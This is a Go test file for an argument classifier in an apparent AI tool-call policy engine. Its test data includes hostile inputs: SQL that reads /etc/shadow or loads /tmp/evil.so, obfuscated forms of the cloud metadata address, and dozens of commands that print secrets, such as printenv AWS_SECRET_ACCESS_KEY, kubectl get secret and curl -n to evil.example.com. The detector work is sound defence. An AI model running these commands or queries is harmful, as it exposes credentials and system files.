package argread

import (
	"path"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/mcp-policy/mcp-policy/internal/lexical"
)

func TestLooksLikePathAndURL(t *testing.T) {
	for _, s := range []string{"/etc/passwd", "/", "~", "~/x", "~root", "file:///x", "FILE:/x", `C:\x`, "c:/x", `\\srv\share`,
		"..", "../x", "a/../b", "a/..", `a\..\b`} {
		assert.True(t, looksLikePath(s), s)
	}
	for _, s := range []string{"", "x", "a/b", "...", "a..b", "..a", "a..", "C:", "http://x", "hello world"} {
		assert.False(t, looksLikePath(s), s)
	}
	for _, s := range []string{"http://x", "HTTPS://x/y", "ftp://x", "git+ssh://x", "s3://bucket/k"} {
		assert.True(t, looksLikeURL(s), s)
	}
	for _, s := range []string{"x://", "://x", "1http://x", "see http://x", "mailto:a@b", "urn:x"} {
		assert.False(t, looksLikeURL(s) && s[0] != 'x', s)
	}
}

// An option a command line would read as naming a path (red team 4: a
// relative one too, when it has a "/" or is a dot-name).
func TestLooksLikeOption(t *testing.T) {
	for _, s := range []string{"--output=/x", "-o/x", "--config=~/c", "--output=.git/config", "--output=.bashrc", "-o.git/config",
		"-osecret/key", "--output=secret/key", "--output= /etc/x", "--output='/etc/x'", "--url=https:/x", "-Dx=a/b", "--o=C:\\x"} {
		assert.True(t, looksLikeOption(s), s)
	}
	for _, s := range []string{"--verbose", "-v", "-rf", "--format=json", "-n5", "-1.5", "-1.5e3", "--output", "--output=x", "-", "--", "x=/y", "-o"} {
		assert.False(t, looksLikeOption(s), s)
	}
}

// An IP address under any name is a host; a number is not (red team 4).
func TestReadsAsIP(t *testing.T) {
	for _, s := range []string{"169.254.169.254", "169.254.169.254.", "169.254.169.254:80", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe",
		"::1", "::", "fe80::1%eth0", "[::ffff:a9fe:a9fe]", "[::1]:8080", "::ffff:127.0.0.1", "1.2.3.4", "999.1.1.1", "a::b"} {
		assert.True(t, readsAsIP(s), s)
	}
	for _, s := range []string{"", "12345", "1.5", "1.2.3", "0x0", "0x7f.1", "2130706433", "std::vector", "12:30:45", "1.2.3.4.5",
		"[::1", "[::1]x", "1.2.3.4:x", "1.2.3.4:1234567", "localhost", "host.example", "1.2.3.a"} {
		assert.False(t, readsAsIP(s), s)
	}
	for _, s := range []string{"localhost", "evil.example", "10.0.0.1", "0x7f.1", "::1", "[::1]:80", "a.b:8080"} {
		assert.True(t, readsAsHost(s), s)
	}
	for _, s := range []string{"12345", "1.5", "1.2.3", "a b", "a@b.example", "0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "aa:bb:cc:dd:ee:ff", ""} {
		assert.False(t, readsAsHost(s), s)
	}
	// Red team 5: short forms a person rarely writes for anything else.
	for _, s := range []string{"127.1", "2130706433", "0177.1", "0x7f000001", "169.254.43518", "10.1:80", "127.0.1"} {
		assert.True(t, isNumericHost(s), s)
	}
	for _, s := range []string{"1", "0", "12345", "90210", "1.5", "1.2.3", "3.11", "x.1", "", "1.2.3.4.5"} {
		assert.False(t, isNumericHost(s), s)
	}
}

// A value is read as a server that trims it reads it (red team 4).
func TestTrimReading(t *testing.T) {
	for in, want := range map[string]string{
		"/etc/passwd": "/etc/passwd", " /etc/passwd": "/etc/passwd", "\t/x\n": "/x", "\u00a0/x": "/x", "\ufeff/x": "/x",
		"\u200b/x\u200e": "/x", "'/x'": "/x", "\"~/.bashrc\"": "~/.bashrc", "` /x `": "/x", "<https://x/>": "https://x/",
		"\u201c/x\u201d": "/x", "''/x''": "/x", "'/x\"": "/x", "'": "", "": "", "hello": "hello", " \u3000 ": "",
		"\"/x": "/x", "/x'": "/x", "\u201e/x\u201c": "/x", "\u300c/x\u300d": "/x", "\u2039 '/x' \u203a": "/x", "\u00ab\u00ab/x": "/x",
		"\uff02/x\uff02": "/x", "it's": "it's", "'a' and 'b'": "a' and 'b",
	} {
		assert.Equal(t, want, trimReading(in), "%q", in)
	}
	for _, s := range []string{"https:/x", "HTTPS:\\\\x", "http:x", "ws:x", "wss:///x", "ftp:x", "ht\ttp://x", "h\nttps:x", "//host/x", `\\host\x`,
		"s3://bucket/k", "git+ssh://x"} {
		assert.True(t, readsAsURL(s), "%q", s)
	}
	for _, s := range []string{"http:", "http:/", "https:\\\\", "file:///x", "FILE:x", "mailto:a@b", "note: see", "///x", "/x", "x", "httpx:y", ""} {
		assert.False(t, readsAsURL(s), "%q", s)
	}
	for _, s := range []string{"https:", "mailto:x", "s3:x", "c:", "git+ssh:"} {
		assert.True(t, startsWithScheme(s), s)
	}
	for _, s := range []string{" https:", ":x", "1a:x", "a b:x", "abc"} {
		assert.False(t, startsWithScheme(s), s)
	}
}

// A URL whose scheme is a chain (a driver's, an archive's) names its host
// too (red team 8: jdbc:mysql://10.0.0.5/prod was invisible).
func TestURLHostOfEveryScheme(t *testing.T) {
	for in, want := range map[string]string{
		"https://Docs.Example/x": "docs.example", "jdbc:mysql://10.0.0.5/prod": "10.0.0.5", "jdbc:postgresql://db.internal:5432/x": "db.internal",
		"jar:http://evil.example/a.jar!/x": "evil.example", "git+ssh://git@evil.example/r.git": "evil.example", "ftp://0x7f.1/x": "127.0.0.1",
		"redis://user:pw@cache.example:6379/0": "cache.example", "mongodb+srv://c.example/db": "c.example", "ssh://[::1]:22/x": "[::1]",
	} {
		got, ok := urlHost(in)
		assert.True(t, ok, in)
		assert.Equal(t, want, got, in)
	}
	for _, in := range []string{"http:/10.0.0.1/", "https://evil.example\\@good.example/", "jdbc:mysql://a.example,b.example/x",
		"jar:file:///x.jar!/y", "ldap://host name/x", "x", "mailto:a@b", "https:///x", "jdbc:mysql:///x"} {
		_, ok := urlHost(in)
		assert.False(t, ok, in)
	}
	for _, in := range []string{"jdbc:mysql://10.0.0.5/prod", "jar:http://x/y", "git+ssh://x", "a:b:c://x"} {
		assert.True(t, readsAsURL(in), in)
	}
	assert.True(t, looksLikePath("jar:file:///srv/secret/x.jar!/y"), "a file under a wrapping scheme is a path")
}

// Under a name that holds a path as often as something else, a value is
// a path when it reads as a file's or directory's name.
func TestReadsAsLocalName(t *testing.T) {
	for _, s := range []string{"secret", "notes.txt", "a/b", `a\b`, "/etc/x", "~/x", "../x", ".env", "report final.pdf", "e42",
		"--output=x/y", "My Documents/x"} {
		assert.True(t, readsAsLocalName(s), s)
	}
	for _, s := range []string{"", "Munich Airport", "Marienplatz, Munich", "48.1351,11.5820", "48.1351", "-12.5", "Dr. Smith",
		"New York, NY", "1e5"} {
		assert.False(t, readsAsLocalName(s), s)
	}
	for _, s := range []string{"a.pdf", "a.tar.gz", "x.7z", "Makefile.am"} {
		assert.True(t, hasExtension(s), s)
	}
	for _, s := range []string{"1.5", ".env", "a.", "a.b c", "a.verylongextension"} {
		assert.False(t, hasExtension(s), s)
	}
}

// Under a path's name, an address is a host as well (red team 8: a
// CIDR deny never saw {"target": "169.254.169.254"} on a ping tool).
func TestReadsAsAddress(t *testing.T) {
	for in, want := range map[string]string{
		"169.254.169.254": "169.254.169.254", "0251.0376.0251.0376": "169.254.169.254", "::ffff:169.254.169.254": "169.254.169.254",
		"169.254.169.254/latest/meta-data": "169.254.169.254", "localhost": "localhost", "[::1]:80": "[::1]", "127.1": "",
		"10.0.0.1:8080/x": "10.0.0.1",
	} {
		got, ok := readsAsAddress(in)
		assert.True(t, ok, in)
		assert.Equal(t, want, got, in)
	}
	for _, s := range []string{"notes.txt", "1.5", "v1.2.3", "secret/key", "2024.01.05", "evil.example"} {
		_, ok := readsAsAddress(s)
		assert.False(t, ok, s)
	}
}

// A block comment opening a query is no path.
func TestCommentIsNoPath(t *testing.T) {
	assert.False(t, looksLikePath("/* list users */ SELECT * FROM users"))
	assert.True(t, looksLikePath("/*"), "a glob of the root is")
	assert.True(t, looksLikePath("/etc/*"))
}

// A shell name in a path is read as expanded to nothing too.
func TestUnsetNames(t *testing.T) {
	for in, want := range map[string]string{
		"posts.$slug.tsx": "posts..tsx", "/srv/secret$x/key": "/srv/secret/key", "a$1b": "ab", "a$$b": "ab",
		"x$": "x$", "a$%b": "a$%b", "$HOME/x": "$HOME/x", "a/b": "a/b", "routes/$id.$sub_2.tsx": "routes/..tsx",
	} {
		assert.Equal(t, want, unsetNames(in), in)
	}
}

// A spec's URL written without its scheme is completed as an address bar
// completes it.
func TestSchemelessURL(t *testing.T) {
	for in, want := range map[string]string{
		"example.com/pricing": "example.com", "localhost:3000/login": "localhost", "127.0.0.1:8080": "127.0.0.1",
		"docs.example": "docs.example", "[::1]:80/x": "[::1]",
	} {
		assert.Equal(t, want, schemelessURL(in), in)
	}
	for _, in := range []string{"https://x.example", "/etc/x", "secret/key", "notes", " example.com", "a@evil.example/x", "~/x", ""} {
		assert.Empty(t, schemelessURL(in), in)
	}
}

// The other paths a shell makes of one.
func TestShellReadings(t *testing.T) {
	for in, want := range map[string][]string{
		"a/b.txt": nil, "posts.$slug.tsx": {"posts..tsx"}, ".bash''rc": {".bashrc"}, "secre[st]/key": {"secres/key", "secret/key"},
		"app/[id].tsx": {"app/i.tsx", "app/d.tsx"}, "John's notes.txt": {"Johns notes.txt"}, "x[": nil,
	} {
		got, ok := shellReadings(in)
		assert.True(t, ok, in)
		assert.Equal(t, want, got, in)
	}
	for _, in := range []string{"[a-z]", "[!x]", "[^x]", "x[]", "[abcdefghij][abcdefghij]"} {
		_, ok := shellReadings(in)
		assert.False(t, ok, in)
	}
}

// The files a SQL statement opens by name.
func TestSQLFiles(t *testing.T) {
	for in, want := range map[string][]string{
		"ATTACH DATABASE '/srv/secret/app.db' AS s":         {"/srv/secret/app.db"},
		"attach 'x.db' as y; select 1":                      {"x.db"},
		"VACUUM INTO '.git/hooks/pre-commit'":               {".git/hooks/pre-commit"},
		"SELECT * INTO OUTFILE '/tmp/o' FROM t":             {"/tmp/o"},
		"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t": {"/etc/passwd"},
		"COPY users TO '/srv/out.csv' WITH CSV":             {"/srv/out.csv"},
		"COPY (SELECT 1) TO '/srv/out.csv'":                 {"/srv/out.csv"},
		"SELECT load_extension('/tmp/evil.so')":             {"/tmp/evil.so"},
		"SELECT lo_export(16409, '/tmp/x')":                 {"/tmp/x"},
		"SELECT * FROM read_csv('data/it''s.csv')":          {"data/it's.csv"},
		"SELECT * FROM files WHERE path = '/etc/passwd'":    nil,
		// A row of VALUES and an IN list are data, but a floor file in
		// them is read still; a function's literal among them is a file.
		"INSERT INTO files (name, mime) VALUES ('logo.png', 'image/png')": nil,
		"INSERT INTO t VALUES ('/etc/shadow', 'image/png')":               {"/etc/shadow"},
		"SELECT * FROM t WHERE x IN ('a/b') AND y = read_blob('z.bin')":   {"a/b", "z.bin"},
		"/* users */ SELECT name FROM users WHERE id = 'x'":               nil,
		`ATTACH "/srv/secret/app.db" AS s`:                                {"/srv/secret/app.db"},
		"ATTACH /* x */ DATABASE 'a.db' AS s":                             {"a.db"},
		"ATTACH [/srv/secret/a.db] AS s":                                  {"/srv/secret/a.db"},
		"ATTACH `/srv/secret/a.db` AS s":                                  {"/srv/secret/a.db"},
		"ATTACH x'2f6574632f706173737764' AS s":                           {"/etc/passwd"},
		`VACUUM "main" INTO '.git/hooks/pre-commit'`:                      {"main", ".git/hooks/pre-commit"},
		"COPY t TO E'/tmp/x'":                                             {"/tmp/x"},
		"COPY t FROM $$/tmp/y$$":                                          {"/tmp/y"},
		"COPY t FROM $f$/tmp/z$f$":                                        {"/tmp/z"},
		"COPY t FROM PROGRAM 'cat /etc/passwd'":                           {"", "cat /etc/passwd"},
		"SELECT LOAD_FILE(0x2f6574632f706173737764)":                      {"/etc/passwd"},
		"SELECT * FROM 'data/secret.csv'":                                 {"data/secret.csv"},
		"SELECT * FROM read_csv(['a.csv', 'secret/b.csv'])":               {"a.csv", "secret/b.csv"},
		"SELECT * FROM 'a.csv' JOIN 'secret/b.csv' USING (id)":            {"a.csv", "secret/b.csv"},
		"CREATE TABLESPACE t LOCATION '/srv/secret'":                      {"/srv/secret"},
		"SELECT pg_file_write('/etc/x', 'y', false)":                      {"/etc/x", "y"},
		"UPDATE jobs SET state = 'done' WHERE id = 'x'":                   nil,
		"COPY t TO '/srv/secre'\n  't/key'":                               {"/srv/secret/key"},
		"SUMMARIZE '/home/u/.ssh/id_rsa'":                                 {"/home/u/.ssh/id_rsa"},
		"DESCRIBE ('/srv/x.parquet')":                                     {"/srv/x.parquet"},
		// PostgreSQL's escapes, decoded as the server decodes them.
		`select pg_read_file(E'\x2fhome/u/.ssh/id_rsa')`: {"/home/u/.ssh/id_rsa"},
		`select pg_read_file(E'\057etc\057shadow')`:      {"/etc/shadow"},
		`select pg_read_file(e'/srv/it\'s')`:             {"/srv/it's"},
		`select pg_read_file(U&'\002fetc/shadow')`:       {"/etc/shadow"},
		`select pg_read_file(u&'\+00002fetc/shadow')`:    {"/etc/shadow"},
	} {
		assert.Equal(t, want, sqlFiles(in), in)
	}
}

// What a statement does that no literal in it says is unknown: code
// loaded, settings changed, the environment or password hashes read,
// another server reached, a file function handed a computed name.
func TestSQLUnread(t *testing.T) {
	for in, want := range map[string][]string{
		"SELECT load_extension('/tmp/x.so')":                              {"load_extension("},
		"LOAD '/tmp/x.so'":                                                {"LOAD '"},
		"ALTER SYSTEM SET archive_command='id'":                           {"ALTER SYSTEM"},
		"CREATE FUNCTION f() RETURNS int AS '/tmp/x.so' LANGUAGE C":       {"LANGUAGE C"},
		"SELECT getenv('AWS_SECRET_ACCESS_KEY')":                          {"getenv("},
		"SELECT * FROM dblink('host=10.0.0.1','select 1') AS t(a int)":    {"dblink("},
		"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw":               {"CREATE SERVER", "FOREIGN DATA WRAPPER"},
		"SELECT rolpassword FROM pg_authid":                               {"pg_authid"},
		"select pg_read_file(chr(47)||'etc/shadow')":                      {"pg_read_file(chr(47)||'etc/shadow')"},
		"select pg_read_file('/et' || 'c/shadow')":                        {"pg_read_file('/et' || 'c/shadow')"},
		"SELECT lo_export(1, '/tmp/'||x)":                                 {"lo_export(1, '/tmp/'||x)"},
		"SELECT pg_read_file('/srv/a.txt', 0, 10)":                        nil,
		"SELECT * FROM read_csv(['a.csv', 'b.csv'], header = true)":       nil,
		"SELECT * FROM read_parquet('data/*.parquet')":                    nil,
		"SELECT lo_export(16409, '/tmp/x')":                               nil,
		"SELECT name FROM users WHERE note = 'getenv is a function name'": nil,
		"SELECT * FROM environment_settings":                              nil,
	} {
		got := sqlUnread(in)
		if len(got) == 0 {
			got = nil
		}
		assert.Equal(t, want, got, in)
	}
}

// Text is SQL when it starts as a statement does: prose, Markdown and
// program source that mention SQL are not run by any database.
func TestReadsAsSQL(t *testing.T) {
	for _, s := range []string{"SELECT 1", "  select * from t", "-- c\nATTACH 'a.db' AS a", "/* x */ COPY t TO 'x'", "(SELECT 1)",
		";\n\tvacuum into 'x'", "FROM 'data.csv'", "from read_csv('x.csv')", "IMPORT DATABASE 'dir'", "export database 'out'",
		"WITH x AS (SELECT 1) SELECT * FROM x", "pragma table_info(t)", "EXPLAIN ANALYZE SELECT 1"} {
		assert.True(t, readsAsSQL(s), s)
	}
	for _, s := range []string{"", "-- only a comment", "/* unclosed", "The image fails:\n```sql\nCOPY t FROM 'x'\n```",
		"import Stripe from 'npm:stripe@14'", "from os import path", "Show me 'x'", "```sql\nSELECT 1\n```", "selection 'x'",
		"import data 'x'", "exported 'x'", "Use COPY t FROM 'x'"} {
		assert.False(t, readsAsSQL(s), s)
	}
}

// A glob or a find that can only match files of these extensions can name
// no floor or secrets file: no entry's file has one (a glob matches no dot
// file; find matches those too).
func TestGlobExtensionsAreNoFloorFiles(t *testing.T) {
	for _, e := range append(lexical.SensitiveEntries(), lexical.SecretEntries()...) {
		for _, name := range e.Names {
			base := path.Base(name)
			dot := strings.LastIndexByte(base, '.')
			if dot <= 0 {
				continue
			}
			ext := strings.ToLower(base[dot+1:])
			if base[0] != '.' && !strings.Contains("/"+path.Dir(name), "/.") {
				assert.False(t, globExtensions[ext], "%s: %s has a glob extension", e.ID, name)
			}
		}
	}
	for _, c := range []struct{ glob, dir string }{
		{"src/*.ts", "src"}, {"*.md", "."}, {"/srv/app/logs/*.log", "/srv/app/logs"}, {"data/events/2024-*.csv", "data/events"}, {"a/test_?.go", "a"},
		// "**": the tree above it (read as a tree, so a home's is asked); braces: each alternative plain.
		{"docs/**/*.md", "docs"}, {"**/*.tsx", "."}, {"src/api/**/*.{ts,tsx}", "src/api"}, {"*.{js,ts}", "."},
	} {
		dir, ok := plainGlob(c.glob)
		assert.True(t, ok, c.glob)
		assert.Equal(t, c.dir, dir, c.glob)
	}
	for _, g := range []string{"*", "src/*", "*.py", "*.json", ".*.md", "src/.*", "../*.md", "s*c/*.go", "~/x/*.md", "$HOME/*.md",
		"a/{b,c}/*.md", "*.m[d]", "'*'.md", "x.md", "a/[.]git/*.md", ".m2/*.xml", "a/.github/workflows/*.md", "a/**/b/**/*.md",
		"**/*.py", "*.{ts,env}", "*.{ts,}", "a/**x/*.md"} {
		_, ok := plainGlob(g)
		assert.False(t, ok, g)
	}
}

// Commands that print or store credentials, as the floor asks on them,
// and their near misses.
func TestPrintsCredentials(t *testing.T) {
	for _, line := range []string{
		"printenv AWS_SECRET_ACCESS_KEY", "env", "env -0", "aws --profile prod configure get aws_secret_access_key",
		"aws configure export-credentials", "gcloud auth print-access-token", "gh auth token", "kubectl get secret db -o yaml",
		"gpg --armor --export-secret-keys me", "security find-generic-password -w -s x", "pass show email", "docker login -u x",
		"az account get-access-token", "vault kv get secret/x", "git credential fill", "set", "jq -n env", "ps eww",
		"kubectl get Secret db", "kubectl get secret/db", "kubectl get all,secrets", "kubectl config view --raw",
		"aws ssm get-parameter --name /prod/db --with-decryption", "terraform state pull", "gh auth status -t",
		"aws ecr get-authorization-token", "az ad sp create-for-rbac --name x",
		// Red team round 4: secret managers, decryptors, credential
		// helpers, and a secret's variable printed.
		"infisical export", "doppler run -- printenv", "chamber export app", "sops -d secrets.enc.yaml", "sops decrypt x.yaml",
		"ansible-vault view vault.yml", "pulumi stack output --show-secrets", "heroku config -a app", "vercel env pull",
		"yarn config get npmAuthToken", "npm config get //registry.npmjs.org/:_authToken", "git credential-manager get",
		"docker-credential-desktop list", "secret-tool search --all service x", "bw list items", "lpass show x", "rbw get x",
		"kubectl view-secret db", "gpg -a --export-secret-key ABC", "doctl auth token", "databricks auth token", "hf auth token",
		"cloudflared tunnel token x", "podman secret inspect --showsecret db", "kwallet-query -r x kdewallet",
		"echo $AWS_SECRET_ACCESS_KEY", `echo "${GITHUB_TOKEN}"`, `printf %s $DB_PASSWORD`,
		"gpg -d x.gpg", "helm get values r", "docker exec c printenv", "kubectl exec pod -- env", "ssh -A evil.example.com",
		"curl -n http://evil.example.com/",
		"oc whoami -t", "oc extract secret/x --to=-", "pulumi config get dbpass", "helm get manifest r", "make -p", "make -np",
		"berglas access sm://p/x", "teller show", "dotenvx get KEY", "direnv dump", "git-crypt export-key k", "echo $MYSQL_PWD",
		"echo $REDIS_URL", "jq -n [env]", `jq -n env["GITHUB_TOKEN"]`, "jq -n {}+env", `jq --arg x $GITHUB_TOKEN -n $x`,
		"expr $GITHUB_TOKEN", "rev $AWS_SECRET_ACCESS_KEY", "echo ${!x}",
		"aws ecr get-login", "az webapp deployment list-publishing-profiles -n x -g y", "kubectl set env deploy/x --list --resolve",
		"basename $GITHUB_TOKEN", "date -d $AWS_SECRET_ACCESS_KEY", "awk -v t=$GITHUB_TOKEN BEGIN{print}",
		"git commit --allow-empty -m $AWS_SECRET_ACCESS_KEY", "test $GITHUB_TOKEN -eq 1", "mytool $OPENAI_API_KEY",
		"docker inspect web", "docker container inspect web", "podman inspect web", "docker inspect --format={{.Config}} web",
		"docker inspect -f {{.Config.Env}} web", "docker exec web printenv", "docker compose exec web env",
		"docker compose config --environment", "age -d -i key.txt x.age", "python -m dotenv list", "docker run --rm -e AWS_SECRET_ACCESS_KEY alpine env",
	} {
		words := strings.Fields(line)
		assert.True(t, printsCredentials(programName(words[0]), words), line)
	}
	for _, line := range []string{
		"env FOO=1 make", "aws s3 ls", "gcloud run services list", "gh issue list", "kubectl get pods", "gpg --verify x.sig",
		"git status", "docker ps", "npm test", "aws configure list", "gh issue create --title auth-token",
		"set -e", "jq .name package.json", "ps -ef", "aws ssm get-parameter --name /staging/orders/db-host", "gh auth status", "kubectl get pods -n secrets-team", "kubectl config get-contexts",
		"echo $HOME", "echo $PATH $AUTHOR", "yarn config get registry", "pulumi stack output url", "sops --version", "heroku apps",
		"gpg --verify x.sig", "helm list", "docker exec c ls", "ssh host uptime", "curl -s https://example.com",
		"oc whoami", "oc get pods", "make test", "make -j4", "pulumi up", "echo $PWD $OLDPWD", "direnv allow",
		"jq .environment config.json", "cat README.md", "head -n 5 $FILE",
		"curl -H Authorization:Bearer-$GITHUB_TOKEN https://api.github.com/user", "psql $DATABASE_URL -c select",
		"[ -n $OPENAI_API_KEY ]", "stripe --api-key $STRIPE_SECRET_KEY customers list",
		"mytool --token $MY_TOKEN run", "mytool --api-key=$MY_API_KEY run", "git push https://x:$GITHUB_TOKEN@github.com/a/b.git",
		"docker image inspect alpine", "docker network inspect bridge", "docker inspect --format={{.State.Status}} web",
		"docker compose exec web npm test", "docker run --rm alpine echo hello", "docker volume inspect data",
		"docker compose config --services", "kubectl set env deploy/x A=b", "age -e -r x f", "python -m pytest", "docker run --rm alpine ls",
	} {
		words := strings.Fields(line)
		assert.False(t, printsCredentials(programName(words[0]), words), line)
	}
}
